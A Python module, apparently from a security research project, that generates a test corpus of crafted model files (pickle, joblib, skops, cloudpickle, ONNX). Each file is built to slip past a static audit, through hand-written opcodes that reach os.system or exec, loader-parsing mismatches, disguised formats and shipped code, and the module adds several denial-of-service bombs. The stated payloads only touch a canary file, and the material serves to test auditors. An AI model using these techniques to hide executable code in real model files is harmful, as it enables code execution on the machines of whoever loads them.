"""Crafted files for the audit's corpus: one or more per way past a static audit.

Every payload is harmless: run, it creates its canary file (a path inside the corpus's own
temporary folder) and nothing else. Each is written here and never loaded in this process;
`corpus.verify` loads it in a sandboxed child with its natural loader to prove it runs.
`CLASSES` names the technique classes: 1 allowed packages' own helpers and names, 2 a walk
that disagrees with the loader, 3 format detection, 4 shipped code reaching a call, 5 denial
of service (no payload: a budget must stop the audit).
"""

from __future__ import annotations

import pickle
import sys
import types
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from persistbench.experiments.security import (
    ShellCommand,
    _stack_global,
    _str_op,
    bait,
    getattr_chain,
    skops_payload,
    stack_global_eval,
    touch_command,
)

CLASSES = {1: "allowed packages' helpers and names", 2: "walk disagrees with the loader",
           3: "format detection", 4: "shipped code reaches a call", 5: "denial of service"}


@dataclass
class Payload:
    name: str
    technique: int
    loader: str | None  # pickle | pickle-stream | joblib | skops | None (no payload)
    write: Callable[[Path, Path], None]  # (file, canary)


def _g(module: str, name: str) -> bytes:
    """GLOBAL, protocol 0 style: works in any protocol."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _system(canary: Path) -> bytes:
    """os.system('touch canary'), leaving its result on the stack."""
    return _g("os", "system") + _str_op(touch_command(canary)) + b"\x85R"


def _int(n: int) -> bytes:
    return b"J" + n.to_bytes(4, "little", signed=True)


class _Reduce:
    """Unpickles by calling `func(*args)` (a name from an allowed package, usually)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def _dumps(obj, protocol: int = pickle.DEFAULT_PROTOCOL) -> Callable[[Path, Path], None]:
    return lambda path, canary: path.write_bytes(pickle.dumps(obj(canary), protocol=protocol))


# ------------------------------------------------------------------ 1: allowed packages

def _numpy_save(canary: Path):
    import numpy as np

    return _Reduce(np.save, str(canary), np.zeros(1))


def _numpy_savetxt(canary: Path):
    import numpy as np

    return _Reduce(np.savetxt, str(canary), np.zeros(1))


def _scipy_savemat(canary: Path):
    from scipy.io import savemat

    return _Reduce(savemat, str(canary), {})


def _svmlight(canary: Path):
    import numpy as np
    from sklearn.datasets import dump_svmlight_file

    return _Reduce(dump_svmlight_file, np.zeros((1, 1)), np.zeros(1), str(canary))


def _dotted(path: Path, canary: Path) -> None:
    """Protocol 4 resolves `name.attr.attr`: joblib's module reaches its `os`."""
    path.write_bytes(b"\x80\x04" + _stack_global("joblib.numpy_pickle", "os.system")
                     + _str_op(touch_command(canary)) + b"\x85R.")


def _dotted_sklearn(path: Path, canary: Path) -> None:
    path.write_bytes(b"\x80\x04" + _stack_global("sklearn.utils._testing", "os.system")
                     + _str_op(touch_command(canary)) + b"\x85R.")


def _partial(path: Path, canary: Path) -> None:
    """functools.partial(numpy.save, canary) called with an array."""
    path.write_bytes(b"\x80\x02" + _g("functools", "partial") + _g("numpy", "save")
                     + _str_op(str(canary)) + b"\x86R" + _g("numpy", "zeros") + b"K\x01\x85R"
                     + b"\x85R.")


def _methodcaller(path: Path, canary: Path) -> None:
    """operator.methodcaller('tofile', canary) applied to an array."""
    path.write_bytes(b"\x80\x02" + _g("operator", "methodcaller") + _str_op("tofile")
                     + _str_op(str(canary)) + b"\x86R" + _g("numpy", "zeros") + b"K\x01\x85R"
                     + b"\x85R.")


def _python2_exec(path: Path, canary: Path) -> None:
    """Protocol 0 with a Python 2 name: `__builtin__.exec` is `builtins.exec`."""
    code = f"open({str(canary)!r}, 'w').close()"
    path.write_bytes(b"c__builtin__\nexec\n(V" + code.encode() + b"\ntR.")


def _raw(data: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    return lambda path, canary: path.write_bytes(data(canary))


# ------------------------------------------------------------------ 2: walk vs loader

def _dtype(code: str, elsize: int = -1, flags: int = 0) -> bytes:
    return (_g("numpy", "dtype") + _str_op(code) + b"\x89\x88\x87R"
            + b"(" + _int(3) + _str_op("|" if code == "u1" else "<") + b"NNN" + _int(elsize)
            + _int(-1) + _int(flags) + b"tb")


def _wrapper(shapes: list[int], dtype: bytes) -> bytes:
    """A joblib NumpyArrayWrapper built by hand; `shapes` repeats the shape key."""
    items = _str_op("subclass") + _g("numpy", "ndarray")
    for n in shapes:
        items += _str_op("shape") + _int(n) + b"\x85"
    items += _str_op("order") + _str_op("C") + _str_op("dtype") + dtype
    items += _str_op("allow_mmap") + b"\x89"
    return _g("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81(" + items + b"db"


def _wrapper_in_pickle(canary: Path) -> bytes:
    """joblib skips the 'array bytes'; pickle.load runs them as opcodes."""
    body = _system(canary) + b"0"
    return b"\x80\x02" + _wrapper([len(body)], _dtype("u1")) + body + b"."


def _duplicate_key(canary: Path) -> bytes:
    """shape given twice: a reader taking the first skips the payload, joblib (last) runs it."""
    body = _system(canary) + b"0"
    return b"\x80\x02" + _wrapper([len(body), 0], _dtype("u1")) + body + b"."


def _itemsize_field(canary: Path) -> bytes:
    """A float64 dtype whose pickled item size says 1: numpy (and joblib) use 8."""
    count = 4
    return (b"\x80\x02" + _wrapper([count], _dtype("f8", elsize=1)) + b"N0" * (4 * count)
            + _system(canary) + b"0.")


def _object_flag(canary: Path) -> bytes:
    """A float64 dtype flagged as holding objects: joblib reads a nested pickle."""
    return (b"\x80\x02" + _wrapper([1], _dtype("f8", flags=63))
            + b"\x80\x02" + _g("builtins", "list") + b")R" + _system(canary) + b"0.")


def _after_stop(path: Path, canary: Path) -> None:
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    path.write_bytes(pickle.dumps(model) + pickle.dumps(ShellCommand(touch_command(canary))))


def _joblib_dump(obj: Callable[[Path], object], **kwargs) -> Callable[[Path, Path], None]:
    def write(path: Path, canary: Path) -> None:
        import joblib

        joblib.dump(obj(canary), path, **kwargs)
    return write


def _object_array(canary: Path):
    import numpy as np

    return {"w": np.ones(10), "items": np.array([ShellCommand(touch_command(canary)), 1],
                                                dtype=object)}


def _baited(canary: Path):
    return bait(ShellCommand(touch_command(canary)))


# ------------------------------------------------------------------ 3: format detection

def _zlib_header(canary: Path) -> bytes:
    """'(' 0x91 is a valid zlib header and MARK, FROZENSET to pickle.load."""
    assert (0x28 * 256 + 0x91) % 31 == 0
    return b"(\x91" + _system(canary) + b"0."


def _bz_prefix(canary: Path) -> bytes:
    """'BZ' is bz2 to joblib; to pickle.load, BINBYTES of 90 bytes, then a payload."""
    return b"BZ\x00\x00\x00" + b"h" * 90 + b"0" + _system(canary) + b"0N."


def _skops_bytes(canary: Path) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "p.skops"
        skops_payload(target, canary)
        return target.read_bytes()


def _benign_skops() -> bytes:
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    return sio.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1]))


def _zip_after_pickle(canary: Path) -> bytes:
    return pickle.dumps(ShellCommand(touch_command(canary))) + _benign_skops()


def _zip_after_junk(canary: Path) -> bytes:
    return b"not a model " * 100 + _skops_bytes(canary)


def _legacy_zfile(path: Path, canary: Path) -> None:
    from joblib.numpy_pickle_compat import write_zfile

    with open(path, "wb") as fh:
        write_zfile(fh, pickle.dumps(ShellCommand(touch_command(canary)), protocol=2))


def _varint(n: int) -> bytes:
    out = b""
    while True:
        byte, n = n & 0x7F, n >> 7
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def _onnx_with_zip(canary: Path) -> bytes:
    """An ONNX model whose unknown field 99 holds a skops archive: zipfile finds it."""
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Identity", ["X"], ["Y"])], "g",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    archive = _skops_bytes(canary)
    return model.SerializeToString() + _varint(99 << 3 | 2) + _varint(len(archive)) + archive


# ------------------------------------------------------------------ 4: shipped code

def _by_value(source: str, canary: Path) -> types.ModuleType:
    """A module cloudpickle ships by value (its code travels inside the file)."""
    import cloudpickle

    name = f"corpus_payload_{abs(hash((source, str(canary))))}"
    module = types.ModuleType(name)
    exec(compile(source.replace("CANARY", repr(str(canary))), name, "exec"), module.__dict__)
    sys.modules[name] = module
    cloudpickle.register_pickle_by_value(module)
    return module


def _cloudpickle(make: Callable[[Path], object]) -> Callable[[Path, Path], None]:
    def write(path: Path, canary: Path) -> None:
        import cloudpickle

        path.write_bytes(cloudpickle.dumps(make(canary)))
    return write


def _metaclass(canary: Path):
    source = ("ARMED = False\n"
              "class Meta(type):\n"
              "    def __new__(mcls, name, bases, ns):\n"
              "        if ARMED:\n"
              "            open(CANARY, 'w').close()\n"
              "        return super().__new__(mcls, name, bases, ns)\n"
              "def make():\n"
              "    return Meta('Model', (), {})\n")
    module = _by_value(source, canary)
    model = module.make()
    module.ARMED = True  # set after the class exists here: armed only where it is loaded
    return model


def _extend(canary: Path):
    source = ("class Items(list):\n"
              "    def extend(self, items):\n"
              "        open(CANARY, 'w').close()\n")
    return _by_value(source, canary).Items([1, 2])


def _call_on_load(canary: Path):
    source = "def write(path):\n    open(path, 'w').close()\n"

    class CallOnLoad:
        def __init__(self, func, arg):
            self.func, self.arg = func, arg

        def __reduce__(self):
            return (self.func, (self.arg,))

    return CallOnLoad(_by_value(source, canary).write, str(canary))


def _shipped_body(obj) -> bytes:
    """cloudpickle's protocol 2 stream for `obj`, without PROTO and STOP."""
    import cloudpickle

    return cloudpickle.dumps(obj, protocol=2)[2:-1]


def _build_setstate(canary: Path) -> bytes:
    """BUILD installs `__setstate__` in an estimator's dict; a second BUILD calls it."""
    func = _by_value("def hook(state):\n    open(CANARY, 'w').close()\n", canary).hook
    return (b"\x80\x02" + _g("copyreg", "_reconstructor")
            + _g("sklearn.linear_model._logistic", "LogisticRegression")
            + _g("builtins", "object") + b"N\x87R"
            + b"}" + _str_op("__setstate__") + _shipped_body(func) + b"sb" + b"}b.")


def _code_swap(canary: Path) -> bytes:
    """BUILD sets `copyreg._reconstructor.__code__`, then the file calls it."""
    func = _by_value("def f(cls, base, state):\n    open(CANARY, 'w').close()\n", canary).f
    return (b"\x80\x02" + _g("copyreg", "_reconstructor") + b"N}" + _str_op("__code__")
            + _shipped_body(func.__code__) + b"s\x86b0"
            + _g("copyreg", "_reconstructor") + b"NNN\x87R.")


# ------------------------------------------------------------------ 5: denial of service

def _opcode_bomb(path: Path, canary: Path) -> None:
    import gzip

    with gzip.open(path, "wb") as fh:
        fh.write(b"\x80\x04N")
        block = b"N0" * 500_000
        for _ in range(21):
            fh.write(block)
        fh.write(b".")


def _mark_bomb(canary: Path) -> bytes:
    return b"\x80\x04" + b"(" * 10_000_000 + b"N."


def _memo_bomb(canary: Path) -> bytes:
    return b"\x80\x04N" + b"".join(b"r" + i.to_bytes(4, "little")
                                   for i in range(5_100_000)) + b"."


def _schema_bomb(path: Path, canary: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("schema.json", "w") as member:
        block = b" " * (1 << 20)
        for _ in range(100):
            member.write(block)


def _onnx_junk(path: Path, canary: Path) -> None:
    """300 MB starting like an ONNX file (sparse on disk)."""
    with open(path, "wb") as fh:
        fh.write(b"\x08\x07")
        fh.truncate(300 << 20)


PAYLOADS: list[Payload] = [
    Payload("reduce-os-system", 1, "pickle", _dumps(lambda c: ShellCommand(touch_command(c)))),
    Payload("reduce-os-system-p0", 1, "pickle",
            _dumps(lambda c: ShellCommand(touch_command(c)), protocol=0)),
    Payload("stack-global-eval", 1, "pickle", _raw(stack_global_eval)),
    Payload("getattr-chain", 1, "pickle", _raw(getattr_chain)),
    Payload("python2-name-exec", 1, "pickle", _python2_exec),
    Payload("numpy-save", 1, "pickle", _dumps(_numpy_save)),
    Payload("numpy-savetxt", 1, "pickle", _dumps(_numpy_savetxt, protocol=2)),
    Payload("scipy-savemat", 1, "pickle", _dumps(_scipy_savemat)),
    Payload("sklearn-dump-svmlight", 1, "joblib", _joblib_dump(_svmlight)),
    Payload("dotted-name-joblib-os", 1, "pickle", _dotted),
    Payload("dotted-name-sklearn-os", 1, "pickle", _dotted_sklearn),
    Payload("functools-partial", 1, "pickle", _partial),
    Payload("operator-methodcaller", 1, "pickle", _methodcaller),
    Payload("skops-reduce-os-system", 1, "skops", lambda p, c: skops_payload(p, c)),
    Payload("wrapper-in-plain-pickle", 2, "pickle", _raw(_wrapper_in_pickle)),
    Payload("duplicate-shape-key", 2, "joblib", _raw(_duplicate_key)),
    Payload("itemsize-field", 2, "joblib", _raw(_itemsize_field)),
    Payload("object-flag", 2, "joblib", _raw(_object_flag)),
    Payload("after-stop", 2, "pickle-stream", _after_stop),
    Payload("joblib-after-array", 2, "joblib", _joblib_dump(_baited)),
    Payload("joblib-object-array", 2, "joblib", _joblib_dump(_object_array)),
    Payload("joblib-zlib-after-array", 2, "joblib", _joblib_dump(_baited, compress=3)),
    Payload("joblib-lz4-after-array", 2, "joblib",
            _joblib_dump(_baited, compress=("lz4", 3))),
    Payload("joblib-xz-after-array", 2, "joblib", _joblib_dump(_baited, compress=("xz", 3))),
    Payload("zlib-header-pickle", 3, "pickle", _raw(_zlib_header)),
    Payload("bz-prefix-pickle", 3, "pickle", _raw(_bz_prefix)),
    Payload("zip-after-pickle", 3, "pickle", _raw(_zip_after_pickle)),
    Payload("zip-after-junk", 3, "skops", _raw(_zip_after_junk)),
    Payload("legacy-joblib-zfile", 3, "joblib", _legacy_zfile),
    Payload("onnx-unknown-field-zip", 3, "skops", _raw(_onnx_with_zip)),
    Payload("cloudpickle-call-on-load", 4, "pickle", _cloudpickle(_call_on_load)),
    Payload("cloudpickle-metaclass", 4, "pickle", _cloudpickle(_metaclass)),
    Payload("cloudpickle-appends-extend", 4, "pickle", _cloudpickle(_extend)),
    Payload("build-installs-setstate", 4, "pickle", _raw(_build_setstate)),
    Payload("build-swaps-code", 4, "pickle", _raw(_code_swap)),
    Payload("opcode-bomb-gzip", 5, None, _opcode_bomb),
    Payload("mark-bomb", 5, None, _raw(_mark_bomb)),
    Payload("memo-bomb", 5, None, _raw(_memo_bomb)),
    Payload("schema-json-bomb", 5, None, _schema_bomb),
    Payload("onnx-sized-junk", 5, None, _onnx_junk),
]


def write_all(folder: Path, canaries: Path) -> list[tuple[Payload, Path, Path]]:
    """Write every payload; (payload, file, its canary)."""
    folder.mkdir(parents=True, exist_ok=True)
    canaries.mkdir(parents=True, exist_ok=True)
    written = []
    for payload in PAYLOADS:
        path, canary = folder / f"{payload.name}.bin", canaries / f"{payload.name}.npy"
        payload.write(path, canary)
        written.append((payload, path, canary))
    return written

